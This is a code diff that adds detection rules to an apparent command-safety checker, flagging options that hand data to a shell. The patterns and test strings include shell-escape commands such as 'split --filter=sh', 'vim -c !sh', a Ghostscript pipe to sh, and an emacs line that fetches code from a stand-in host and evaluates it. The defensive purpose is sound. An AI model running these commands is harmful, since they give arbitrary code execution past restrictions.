@@ -98,6 +98,30 @@ const loadsInto: Condition = ({ args, command: { program } }) =>
       )
     : undefined;
 
+/** Options that hand pieces of data to a program: a shell there does what they say. */
+const HANDS_ON =
+  /^--?(?:[\w-]+-)?(?:filter|pager|editor|viewer|ext-?browser|browser|opener|hook|on-[\w-]+|callback|pre|compress-program|to-command|askpass|downloader|action|notify|handler)$/;
+const SHORT_HANDS_ON: Readonly<Record<string, string>> = {
+  mapfile: "-C",
+  readarray: "-C",
+  tcpdump: "-z",
+  feh: "-A",
+  man: "-P",
+};
+const BARE_SHELL =
+  /^(?:\/\S*\/)?(?:(?:ba|da|z|k|a|fi)?sh|python[\d.]*|perl|ruby|node|php|lua|eval|source|\.)(?:\s+-\w*)?$/;
+
+/** `split --filter=sh a`, `mapfile -C eval < a`, `aria2c --on-download-complete=/bin/sh …`: data become commands. */
+const handsToShell: Condition = ({ args, command: { program } }) =>
+  args.find(({ text }, index) => {
+    const [, option = args[index - 1]?.text ?? "", value = text] = /^(--?[\w-]+)=(.*)$/s.exec(text) ?? [];
+    return (
+      BARE_SHELL.test(value) &&
+      (HANDS_ON.test(option) ||
+        (Object.hasOwn(SHORT_HANDS_ON, program) && SHORT_HANDS_ON[program] === option))
+    );
+  });
+
 const CARGO_SETTING =
   /(?:^|\.)["']?(?:rustc|rustdoc|rustc-wrapper|rustc-workspace-wrapper|runner|linker|alias\.|credential-(?:process|provider)|path|cmd)\b["']?[^=]*=|^alias\.|\.toml$/;
 const FILE_OPTION = /^(?:-f|--file|--makefile|--taskfile|--justfile|-t)/;
@@ -118,6 +142,10 @@ export const RULES = subject("starter", [
       not_match: ["groff -Tutf8 -man a.1"] },
     { program: "gs|ghostscript|ps2pdf|ps2ps|eps2eps|pdf2ps", word: /^-dNOSAFER$|^--permit-file-(?:all|write|control)|%pipe%|^-(?:o|sOutputFile=)\s*\|/,
       match: ["gs -dNOSAFER a.ps", "gs -sOutputFile='%pipe%sh' a.ps"], not_match: ["gs -dSAFER a.ps"] },
+    { program: "less|zless|more|most", word: /^\+{1,2}[\dgG%]*[!|]/, match: ["more +'!sh' a", "less '+!id' a"], not_match: ["less +G a", "less '+/error!' a"] },
+    { program: "vi|vim|nvim|view|ex|gvim|vimdiff|rvim|rview|vimx|ed|red", word: /^(?:--cmd=|-c|\+)?[:\s]*(?:silent!?\s+)?!+\s*(?:\/\S*\/)?(?:ba|da|z)?sh\s*$|^[:+]+(?:sh|shell|terminal)$|\bos\.exec|\bpty\.spawn/,
+      match: ["vim -c '!sh'", "rvim -c ':py3 import os;os.execl(\"/bin/sh\",\"sh\")'"], not_match: ["vim -c 'set sh=bash' a", "vim +42 a.sh"] },
+    { program: "emacs", word: /^(?:--funcall=)?(?:eval-buffer|shell|term|eshell)$/, match: ["emacs --batch --eval '(url-insert-file-contents \"https://x.example/a\")' -f eval-buffer"], not_match: ["emacs --batch -f batch-byte-compile a.el"] },
     { program: "nmap", word: /^--interactive$/, match: ["nmap --interactive"], not_match: ["nmap -sV localhost"] },
     { program: "convert|magick|identify|mogrify|composite|montage|display|stream|import", word: /^(?:msl|ephemeral|mvg|win|plt|delegate|popen|mpri):|^\||;\s*\w/,
       match: ["convert msl:a.msl b.png", "convert '|id' b.png"], not_match: ["convert a.png b.png"] },
@@ -186,6 +214,9 @@ export const RULES = subject("starter", [
     { program: "pytest|py.test", word: /^--pdbcls=/, match: ["pytest --pdbcls=os:system"], not_match: ["pytest --pdb"] },
     { program: "pytest|py.test", when: (call) => valuesOf(call, /^-p/).find(({ text }) => /^[./]/.test(text)), match: ["pytest -p ./x"], not_match: ["pytest -p no:cacheprovider"] },
   ] },
+  { program: "*", when: handsToShell, rule: "starter.program", reason: "hands data to a shell, which does what they say", dry: "",
+    match: ["split --filter=sh a.txt", "mapfile -C eval -c1 < a.txt", "aria2c https://x.example/a --on-download-complete=/bin/sh", "mysql --pager=sh -e 'select 1'", "tcpdump -z sh -w x -G 1", "rg --pre bash x"],
+    not_match: ["split --filter='gzip > $FILE.gz' a.txt", "git log --pager=less", "gh completion -s bash", "docker ps --filter name=sh", "nix develop --command bash", "mapfile -t x < a.txt"] },
   { program: "*", when: loadsLibrary, rule: "starter.library", reason: "loads a library that an option names into a program", dry: "",
     match: ["openssl req -engine ./x.so -new", "ssh-keygen -D ./x.so", "redis-server --loadmodule ./x.so", "php -d extension=./x.so a.php", "pkcs11-tool --module=/tmp/x.so -L"],
     not_match: ["gcc -shared -o x.so a.o", "ldd ./x.so", "nm -D libx.so", "cp a.so b/", "gdb ./x.so", "patchelf --set-rpath . x.so", "python3 setup.py build_ext", "strip --strip-all x.so", "pkcs11-tool --module /usr/lib/opensc-pkcs11.so -L"] },
